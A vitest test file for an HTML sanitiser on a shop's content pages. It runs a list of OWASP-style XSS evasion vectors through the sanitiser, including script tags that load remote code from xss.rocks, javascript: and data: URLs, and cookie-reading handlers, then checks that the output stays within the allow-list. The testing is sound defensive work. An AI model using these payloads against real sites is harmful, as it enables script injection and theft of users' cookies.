import { parseDocument } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import {
  CONTENT_HTML_ATTRIBUTES,
  CONTENT_HTML_TAGS,
  CONTENT_IFRAME_HOSTS,
  CONTENT_URL_SCHEMES,
  sanitizeContentHtml,
} from './sanitize.js';

// The OWASP XSS filter-evasion cheat sheet's vectors, with mutation and clobbering cases added.
const VECTORS: readonly string[] = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  `<IMG SRC="\`('XSS')"\``,
  '<iframe src=http://xss.rocks/scriptlet.html <',
  `\\";alert('XSS');//`,
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/">x</a>',
  '<img srcset="javascript:alert(1) 1x, https://ok.example/a.jpg 2x">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<img src="https://ok.example/a.jpg" id="cookie" name="location">',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  '<details open ontoggle=alert(1)>',
  '<iframe src="https://www.youtube-nocookie.com/embed/x" onload="alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/embed"></iframe>',
  '<p style="position:fixed;inset:0">overlay</p>',
];

const URL_ATTRIBUTES = new Set(['href', 'src']);

/** What a browser would take as the scheme: it drops tabs and newlines anywhere and C0/space at the start. */
function schemeOf(url: string): string | null {
  const cleaned = url.replace(/[\t\n\r]/g, '');
  let start = 0;
  while (start < cleaned.length && cleaned.charCodeAt(start) <= 0x20) start += 1;
  return schemeAt(cleaned.slice(start));
}

function schemeAt(cleaned: string): string | null {
  if (cleaned.startsWith('//')) return '//';
  return /^([a-z][a-z0-9+.-]*):/i.exec(cleaned)?.[1]?.toLowerCase() ?? null;
}

interface Violation {
  tag: string;
  attribute?: string;
  value?: string;
}

/** Every element, attribute and URL of the sanitised HTML that the allow-list does not name. */
function violationsIn(html: string): Violation[] {
  const found: Violation[] = [];
  const visit = (node: ReturnType<typeof parseDocument>['children'][number]) => {
    if (node.type === 'tag' || node.type === 'script' || node.type === 'style') {
      const tag = node.name.toLowerCase();
      if (!CONTENT_HTML_TAGS.includes(tag)) found.push({ tag });
      const allowed = [...(CONTENT_HTML_ATTRIBUTES['*'] ?? []), ...(CONTENT_HTML_ATTRIBUTES[tag] ?? [])];
      for (const [attribute, value] of Object.entries(node.attribs)) {
        if (!allowed.includes(attribute)) found.push({ tag, attribute, value });
        const urls =
          attribute === 'srcset'
            ? value.split(',').map((candidate) => candidate.trim().split(/\s+/)[0] ?? '')
            : URL_ATTRIBUTES.has(attribute)
              ? [value]
              : [];
        for (const url of urls) {
          const scheme = schemeOf(url);
          if (scheme !== null && !(CONTENT_URL_SCHEMES[tag] ?? []).includes(scheme)) {
            found.push({ tag, attribute, value });
          }
        }
      }
      if (
        tag === 'iframe' &&
        !CONTENT_IFRAME_HOSTS.includes(new URL(node.attribs.src ?? 'about:blank').hostname)
      ) {
        found.push({ tag, attribute: 'src', value: node.attribs.src });
      }
      for (const child of node.children) visit(child);
    } else if ('children' in node) {
      for (const child of node.children) visit(child);
    }
  };
  for (const node of parseDocument(html).children) visit(node);
  return found;
}

describe('sanitizeContentHtml', () => {
  it.each(VECTORS)('leaves nothing outside the allow-list of %s', (vector) => {
    const clean = sanitizeContentHtml(vector);
    expect(violationsIn(clean)).toEqual([]);
    // Text may still read 'javascript:' (it is only text); markup must not hold a script or a handler.
    expect(clean).not.toMatch(/<script|<[^>]*\son\w+=/i);
  });

  it.each(VECTORS)('gives the same result when run twice on %s', (vector) => {
    const once = sanitizeContentHtml(vector);
    expect(sanitizeContentHtml(once)).toBe(once);
  });

  it('finds violations when they are there, so the check above can fail', () => {
    expect(violationsIn('<img src="javascript:alert(1)" onerror="x">')).toHaveLength(2);
    expect(violationsIn('<iframe src="https://evil.example/"></iframe>')).toHaveLength(1);
    expect(violationsIn('<a href="jav\tascript:x">x</a>')).toHaveLength(1);
  });

  it('keeps editorial structure, links and images', () => {
    const html =
      '<h2 class="lead">Tips</h2><p>Read <a href="https://example.com/a">the <strong>guide</strong></a>.</p>' +
      '<ul><li>one</li></ul><img src="https://media.example/a.jpg" alt="Scale" width="200" height="100">' +
      '<table><tr><th scope="row">Weight</th><td colspan="2">180 kg</td></tr></table>';
    expect(sanitizeContentHtml(html)).toBe(
      '<h2>Tips</h2><p>Read <a href="https://example.com/a">the <strong>guide</strong></a>.</p>' +
        '<ul><li>one</li></ul><img src="https://media.example/a.jpg" alt="Scale" width="200" height="100" />' +
        '<table><tr><th scope="row">Weight</th><td colspan="2">180 kg</td></tr></table>',
    );
  });

  it('drops classes, so content cannot take on the shop’s own styles (a fixed layer over the page)', () => {
    expect(
      sanitizeContentHtml(
        '<div class="shop-dialog"><a class="shop-button" href="https://evil.example/">Sign in again</a></div>',
      ),
    ).toBe('<div><a href="https://evil.example/">Sign in again</a></div>');
    expect(sanitizeContentHtml('<p class="page--from-session" lang="de">Text</p>')).toBe(
      '<p lang="de">Text</p>',
    );
  });

  it('turns a main landmark into a block: the page around the HTML is the one main (the web edition’s)', () => {
    expect(sanitizeContentHtml('<main class="webedition"><h1>Scales</h1></main>')).toBe(
      '<div><h1>Scales</h1></div>',
    );
  });

  it('keeps relative links, mail and phone links', () => {
    expect(sanitizeContentHtml('<a href="/de/c/waagen/">Waagen</a>')).toBe(
      '<a href="/de/c/waagen/">Waagen</a>',
    );
    expect(sanitizeContentHtml('<a href="mailto:service@example.com">Mail</a>')).toContain('href="mailto:');
    expect(sanitizeContentHtml('<a href="tel:+49731">Call</a>')).toContain('href="tel:+49731"');
  });

  it('drops scripts and styles with their content, and handlers from kept elements', () => {
    expect(sanitizeContentHtml('<p onclick="steal()">Hi<script>steal()</script></p><style>p{}</style>')).toBe(
      '<p>Hi</p>',
    );
  });

  it('makes a link that opens a new tab unable to reach back, and drops other targets', () => {
    expect(sanitizeContentHtml('<a href="https://example.com" target="_blank">x</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeContentHtml('<a href="https://example.com" target="_top" rel="opener">x</a>')).toBe(
      '<a href="https://example.com" rel="opener">x</a>',
    );
  });

  it('keeps embedded videos from the allowed players only', () => {
    expect(
      sanitizeContentHtml('<iframe src="https://www.youtube-nocookie.com/embed/abc" width="560"></iframe>'),
    ).toBe('<iframe src="https://www.youtube-nocookie.com/embed/abc" width="560"></iframe>');
    expect(sanitizeContentHtml('<iframe src="https://evil.example/embed/abc"></iframe>')).toBe('');
  });

  it('escapes text that looks like markup', () => {
    expect(sanitizeContentHtml('1 < 2 & 3 > 2')).toBe('1 &lt; 2 &amp; 3 &gt; 2');
  });
});
